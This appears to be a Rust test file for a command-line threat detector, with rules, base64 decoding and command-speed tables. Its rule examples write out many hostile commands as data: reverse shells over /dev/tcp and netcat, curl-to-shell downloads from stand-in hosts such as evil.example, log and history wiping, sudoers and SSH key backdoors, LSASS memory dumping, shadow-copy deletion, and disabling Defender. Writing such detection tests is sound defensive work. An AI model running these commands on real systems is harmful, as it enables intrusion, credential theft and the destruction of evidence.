//! Rule, decoding and table tests for command-line detection.

use std::sync::Arc;

use arrow_array::cast::AsArray;
use arrow_array::types::UInt64Type;
use arrow_array::{RecordBatch, StringArray, TimestampSecondArray};
use arrow_schema::{DataType, Field, Schema, TimeUnit};
use base64::Engine;
use proptest::prelude::*;

use super::*;

fn ids(cmd: &str) -> Vec<String> {
    check_command(cmd, RuleSet::builtin())
        .into_iter()
        .map(|h| h.rule_id)
        .collect()
}

fn b64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn each_rule_fires_on_its_examples_and_not_on_benign_ones() {
    let cases: &[(&str, &[&str], &[&str])] = &[
        ("HB-LX-001", &["curl -fsSL https://x.io/i.sh | sh", "wget -qO- http://1.2.3.4/a|sudo bash", "curl http://h/p.py | python3 -"], &["curl https://x/ssh-keys -o k", "wget http://h/file.tar.gz"]),
        ("HB-LX-002", &["bash <(curl -s http://h/x)", "sh -c \"$(wget -O- http://h/x)\"", "bash < <(curl http://h/x)"], &["bash script.sh"]),
        ("HB-LX-003", &["wget http://h/x -O /tmp/x && chmod +x /tmp/x", "curl -o /tmp/a http://h/a; ./a"], &["curl -o out.json http://h/api"]),
        ("HB-LX-004", &["echo Y3VybCB4fHNo | base64 -d | bash", "base64 --decode p.txt | sh"], &["base64 -d in.b64 > out.bin"]),
        ("HB-LX-005", &["echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", "cp k /root/.ssh/authorized_keys", "tee -a /home/u/.ssh/authorized_keys"], &["cat ~/.ssh/authorized_keys"]),
        ("HB-LX-006", &["cat ~/.ssh/authorized_keys"], &["cat ~/.ssh/known_hosts"]),
        ("HB-LX-007", &[":(){ :|:& };:", "bomb(){ bomb|bomb& }; bomb"], &["f(){ echo hi; }; f"]),
        ("HB-LX-008", &["mv /var/log/auth.log /dev/null", "mv -f a b /dev/null"], &["mv a b", "cat x > /dev/null"]),
        ("HB-LX-009", &["history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "ln -sf /dev/null ~/.bash_history", "rm -f ~/.bash_history", "set +o history"], &["history | grep ssh"]),
        ("HB-LX-010", &["rm -rf /var/log/*", "shred -u /var/log/secure"], &["ls /var/log", "rm -rf /tmp/x"]),
        ("HB-LX-011", &["> /var/log/wtmp", "cat /dev/null > /var/log/auth.log", "truncate -s 0 /var/log/syslog", "journalctl --vacuum-time=1s"], &["cat /var/log/syslog", "tail -f /var/log/messages"]),
        ("HB-LX-012", &["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "exec 5<>/dev/udp/h.evil.com/53"], &["ls /dev/"]),
        ("HB-LX-013", &["nc -e /bin/sh 10.0.0.1 4444", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f", "socat tcp:1.2.3.4:99 exec:'bash -li',pty"], &["nc -zv host 22"]),
        ("HB-LX-014", &["python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",1))'", "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(1,inet_aton(\"h\")))' INET"], &["python -c 'print(1)'"]),
        ("HB-LX-015", &["chmod +x /tmp/kworker", "chmod 755 /dev/shm/.x"], &["chmod +x ./build.sh", "chmod 644 /tmp/x"]),
        ("HB-LX-016", &["setenforce 0", "systemctl stop auditd", "auditctl -D", "ufw disable"], &["systemctl status auditd"]),
        ("HB-LX-017", &["echo 'u ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "echo x | tee -a /etc/passwd"], &["cat /etc/passwd"]),
        ("HB-LX-018", &["chmod u+s /bin/bash", "chmod 4755 /tmp/sh"], &["chmod 755 /bin/bash"]),
        ("HB-WIN-001", &["powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "pwsh -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"], &["powershell -ExecutionPolicy Unrestricted -File a.ps1"]),
        ("HB-WIN-002", &["powershell IEX (New-Object Net.WebClient).DownloadString('http://h/a')", "iwr http://h/a.ps1 | iex", "Invoke-RestMethod http://h/x | Invoke-Expression"], &["Invoke-WebRequest http://h/a -OutFile a.zip"]),
        ("HB-WIN-003", &["(New-Object System.Net.WebClient).DownloadFile('http://h/a','a.exe')", "Invoke-WebRequest http://h/a -OutFile a.zip"], &["Get-ChildItem"]),
        ("HB-WIN-004", &["certutil.exe -urlcache -split -f http://h/a.exe a.exe", "certutil -decode a.b64 a.exe"], &["certutil -hashfile a.exe SHA256"]),
        ("HB-WIN-005", &["bitsadmin /transfer job /download /priority high http://h/a C:\\a.exe"], &["bitsadmin /list"]),
        ("HB-WIN-006", &["mshta http://h/a.hta", "regsvr32 /s /n /u /i:http://h/a.sct scrobj.dll", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\""], &["regsvr32 /s my.dll"]),
        ("HB-WIN-007", &["wevtutil cl Security", "wevtutil.exe clear-log System", "Clear-EventLog -LogName Application"], &["wevtutil qe Security /c:5"]),
        ("HB-WIN-008", &["vssadmin delete shadows /all /quiet", "wmic shadowcopy delete", "bcdedit /set {default} recoveryenabled No"], &["vssadmin list shadows"]),
        ("HB-WIN-009", &["Set-MpPreference -DisableRealtimeMonitoring $true", "Add-MpPreference -ExclusionPath C:\\Temp"], &["Get-MpPreference"]),
        ("HB-WIN-010", &["rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full", "procdump64.exe -ma lsass.exe l.dmp"], &["procdump -ma notepad.exe"]),
        ("HB-WIN-011", &["net localgroup administrators eviluser /add"], &["net localgroup administrators"]),
        ("HB-WIN-012", &["powershell -ep bypass -w hidden -c x", "powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File a.ps1"], &["powershell -ep bypass -File a.ps1"]),
        ("HB-WIN-013", &["schtasks /create /tn Updater /tr C:\\Users\\Public\\svc.exe /sc onlogon", "schtasks.exe /Create /SC DAILY /TN x /TR \"%APPDATA%\\u.exe\""], &["schtasks /create /tn Backup /tr C:\\Windows\\System32\\wbadmin.exe /sc daily", "schtasks /query /tn Updater"]),
    ];
    for (rule, positives, negatives) in cases {
        for p in *positives {
            assert!(
                ids(p).iter().any(|i| i == rule),
                "{rule} should match: {p} (got {:?})",
                ids(p)
            );
        }
        for n in *negatives {
            assert!(
                !ids(n).iter().any(|i| i == rule),
                "{rule} should not match: {n}"
            );
        }
    }
    // Every shipped rule has examples above.
    for r in RuleSet::builtin().rules() {
        assert!(
            cases.iter().any(|(id, _, _)| *id == r.id),
            "no examples for {}",
            r.id
        );
    }
}

#[test]
fn encoded_powershell_payload_is_decoded_and_checked() {
    let payload = b64(&utf16(
        "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
    ));
    let hits = check_command(
        &format!("powershell.exe -NoProfile -enc {payload}"),
        RuleSet::builtin(),
    );
    let enc = hits.iter().find(|h| h.rule_id == "HB-WIN-001").unwrap();
    assert_eq!(enc.matched_in, MatchedIn::Command);
    let dl = hits.iter().find(|h| h.rule_id == "HB-WIN-002").unwrap();
    assert_eq!(dl.matched_in, MatchedIn::Decoded { depth: 1 });
    assert!(dl.matched.contains("DownloadString"));
    assert_eq!(dl.severity, Severity::High);
}

#[test]
fn nested_base64_is_decoded() {
    let inner = b64(b"curl -s http://evil.example/x.sh | bash");
    let outer = b64(format!("echo {inner} | base64 -d | sh").as_bytes());
    let hits = check_command(
        &format!("sh -c \"echo {outer} | base64 -d | sh\""),
        RuleSet::builtin(),
    );
    let dl = hits.iter().find(|h| h.rule_id == "HB-LX-001").unwrap();
    assert_eq!(dl.matched_in, MatchedIn::Decoded { depth: 2 });
    assert_eq!(dl.matched_in.label(), "decoded (depth 2)");
    assert!(hits
        .iter()
        .any(|h| h.rule_id == "HB-LX-004" && h.matched_in == MatchedIn::Command));
}

#[test]
fn non_text_base64_and_short_runs_are_ignored() {
    assert!(decoded_views(&b64(&[
        0u8, 159, 146, 150, 1, 2, 3, 200, 201, 202, 17, 18, 19, 20, 21, 22, 23
    ]))
    .is_empty());
    assert!(decoded_views("abc=").is_empty());
    assert!(
        decoded_views("/usr/local/bin/something/else").is_empty()
            || decoded_views("/usr/local/bin/something/else")
                .iter()
                .all(|(t, _)| !t.is_empty())
    );
    // URL-safe alphabet and missing padding are accepted.
    let url_safe = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .encode(b"wget http://h/a?b>>~/.ssh/authorized_keys");
    assert!(decoded_views(&url_safe)
        .iter()
        .any(|(t, _)| t.contains("authorized_keys")));
}

#[test]
fn user_rule_files() {
    let set = RuleSet::from_json(
        r#"{"rules": [{"id": "MY-1", "name": "Mimikatz", "severity": "high", "group": "windows", "pattern": "(?i)mimikatz"}]}"#,
        "mine.json",
    )
    .unwrap();
    let hits = check_command("C:\\t\\MIMIKATZ.exe", &set);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].matched, "MIMIKATZ");
    assert!(RuleSet::from_file("/nonexistent/rules.json")
        .unwrap_err()
        .to_string()
        .contains("/nonexistent/rules.json"));
}

fn table(commands: Vec<Option<&str>>, times: Vec<i64>, sessions: Option<Vec<&str>>) -> RecordBatch {
    let mut fields = vec![
        Field::new(
            "TimeGenerated",
            DataType::Timestamp(TimeUnit::Second, Some("UTC".into())),
            true,
        ),
        Field::new("Command", DataType::Utf8, true),
    ];
    let mut cols: Vec<arrow_array::ArrayRef> = vec![
        Arc::new(TimestampSecondArray::from(times).with_timezone("UTC")),
        Arc::new(StringArray::from(commands)),
    ];
    if let Some(s) = sessions {
        fields.push(Field::new("Session", DataType::Utf8, true));
        cols.push(Arc::new(StringArray::from(s)));
    }
    RecordBatch::try_new(Arc::new(Schema::new(fields)), cols).unwrap()
}

#[test]
fn risky_commands_table() {
    let batch = table(
        vec![
            Some("ls -la"),
            None,
            Some("curl http://h/x | sh"),
            Some(""),
            Some("wevtutil cl Security"),
        ],
        vec![1, 2, 3, 4, 5],
        None,
    );
    let out = risky_commands(&batch, &RiskyOptions::default()).unwrap();
    let names: Vec<String> = out
        .schema()
        .fields()
        .iter()
        .map(|f| f.name().clone())
        .collect();
    assert_eq!(
        names,
        [
            "SourceIndex",
            "TimeGenerated",
            "Command",
            "RuleId",
            "RuleName",
            "Severity",
            "MatchedText",
            "MatchedIn"
        ]
    );
    assert_eq!(out.num_rows(), 2);
    let idx = out.column(0).as_primitive::<UInt64Type>();
    assert_eq!((idx.value(0), idx.value(1)), (2, 4));
    assert_eq!(out.column(3).as_string::<i32>().value(0), "HB-LX-001");
    assert_eq!(out.column(5).as_string::<i32>().value(1), "high");
    assert_eq!(out.column(7).as_string::<i32>().value(0), "command");
    let err = risky_commands(
        &batch,
        &RiskyOptions {
            cmd_column: "Cmd".into(),
            ..RiskyOptions::default()
        },
    )
    .unwrap_err();
    assert!(err.to_string().contains("'Cmd'"));
}

#[test]
fn cmd_speed_follows_msticpy_windows() {
    // 12 commands one second apart: with N=3 and T=5s, the command 3 after i is 3s
    // later, so every start 0..=8 is flagged.
    let cmds: Vec<TimedCommand<'_>> = (0..12)
        .map(|i| TimedCommand {
            row: i,
            time_ns: i as i64 * 1_000_000_000,
            session: None,
        })
        .collect();
    let w = cmd_speed(&cmds, 5_000_000_000, 3);
    assert_eq!(w.len(), 9);
    assert_eq!(w[0].rows, [0, 1, 2]);
    assert_eq!(w[0].delta_seconds(), 3.0);
    // Exactly T apart is not "within T" (MSTICPy compares with <).
    assert!(cmd_speed(&cmds, 3_000_000_000, 3).is_empty());
    assert!(cmd_speed(&cmds[..3], 5_000_000_000, 3).is_empty());
}

#[test]
fn cmd_speed_per_session_and_sorted() {
    let times = vec![10, 0, 1, 11, 2, 12, 3, 13];
    let sessions = vec!["b", "a", "a", "b", "a", "b", "a", "b"];
    let cmds = vec![Some("x"); 8];
    let batch = table(cmds, times, Some(sessions));
    let opts = SpeedOptions {
        session_column: Some("Session".into()),
        events: 3,
        window_seconds: 5.0,
        ..SpeedOptions::default()
    };
    let out = cmd_speed_table(&batch, &opts).unwrap();
    assert_eq!(out.num_rows(), 2);
    let sess = out.column(0).as_string::<i32>();
    assert_eq!((sess.value(0), sess.value(1)), ("b", "a"));
    let rows = out.column(4).as_list::<i32>();
    let first = rows.value(1);
    assert_eq!(
        first.as_primitive::<UInt64Type>().values().to_vec(),
        vec![1, 2, 4]
    );
    // One session: interleaved sessions are one stream of 8 commands.
    let all = cmd_speed_table(
        &batch,
        &SpeedOptions {
            events: 3,
            ..SpeedOptions::default()
        },
    )
    .unwrap();
    assert!(all.num_rows() >= 2);
    let bad = cmd_speed_table(
        &batch,
        &SpeedOptions {
            events: 0,
            ..SpeedOptions::default()
        },
    )
    .unwrap_err();
    assert!(bad.to_string().contains("events"));
}

#[test]
fn speed_times_from_strings() {
    let schema = Arc::new(Schema::new(vec![
        Field::new("TimeGenerated", DataType::Utf8, true),
        Field::new("Command", DataType::Utf8, true),
    ]));
    let batch = RecordBatch::try_new(
        schema.clone(),
        vec![
            Arc::new(StringArray::from(vec![
                "2024-01-01 00:00:00",
                "2024-01-01T00:00:01Z",
                "2024-01-01 00:00:01.500",
            ])),
            Arc::new(StringArray::from(vec!["a", "b", "c"])),
        ],
    )
    .unwrap();
    let out = cmd_speed_table(
        &batch,
        &SpeedOptions {
            events: 2,
            ..SpeedOptions::default()
        },
    )
    .unwrap();
    assert_eq!(out.num_rows(), 1);
    let bad = RecordBatch::try_new(
        schema,
        vec![
            Arc::new(StringArray::from(vec!["yesterday"])),
            Arc::new(StringArray::from(vec!["a"])),
        ],
    )
    .unwrap();
    let err = cmd_speed_table(&bad, &SpeedOptions::default())
        .unwrap_err()
        .to_string();
    assert!(err.contains("row 0") && err.contains("yesterday"), "{err}");
}

proptest! {
    #[test]
    fn checking_never_panics(cmd in "\\PC{0,300}") {
        let _ = check_command(&cmd, RuleSet::builtin());
    }

    #[test]
    fn encoded_downloads_are_found(host in "[a-z]{3,12}\\.(com|net|org)", path in "[a-z0-9]{1,10}") {
        let script = format!("IEX (New-Object Net.WebClient).DownloadString('https://{host}/{path}')");
        let cmd = format!("powershell -enc {}", b64(&utf16(&script)));
        prop_assert!(ids(&cmd).iter().any(|i| i == "HB-WIN-002"));
    }

    #[test]
    fn arbitrary_rule_files_never_panic(pattern in "\\PC{0,30}") {
        let text = serde_json::json!({"rules": [{"id": "X", "name": "x", "severity": "low", "pattern": pattern}]}).to_string();
        let _ = RuleSet::from_json(&text, "p.json");
        let text = serde_json::json!({"Syslog": [pattern]}).to_string();
        let _ = RuleSet::from_json(&text, "p.json");
    }
}
